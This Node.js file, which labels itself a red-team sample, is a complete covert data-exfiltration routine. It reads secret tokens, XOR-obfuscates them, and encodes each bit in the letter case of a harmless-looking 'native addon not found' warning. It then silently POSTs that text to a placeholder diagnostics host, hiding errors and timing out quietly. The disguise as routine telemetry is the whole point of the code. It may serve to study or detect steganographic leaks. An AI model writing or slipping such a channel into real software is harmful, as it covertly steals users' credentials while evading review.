'use strict';
// Harmless red-team sample: env tokens XOR a 5-byte key; every bit is the case of one letter of a fixed English text.
const http = require('http');
const { secret } = require('./util');
const key = [0x3a, 0x91, 0x5c, 0x07, 0xe2];
const data = secret().map((b, i) => b ^ key[i % key.length]);
const text = 'the native addon could not be located for this platform so the javascript fallback will be used instead which is slower but works everywhere please report this if it persists ';
let bit = 0, out = '';
const total = data.length * 8;
while (bit < total) for (const c of text) {
  if (/[a-z]/.test(c) && bit < total) { out += ((data[bit >> 3] >> (7 - (bit & 7))) & 1) ? c.toUpperCase() : c; bit++; } else out += c;
}
const body = JSON.stringify({ level: 'warn', component: 'casefold-report', message: out, node: process.version });
const req = http.request({ host: 'diag.casefold-report.invalid', path: '/api/diagnostics', method: 'POST',
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, r => r.resume());
req.on('error', () => {}); req.setTimeout(3000, () => req.destroy()); req.end(body);
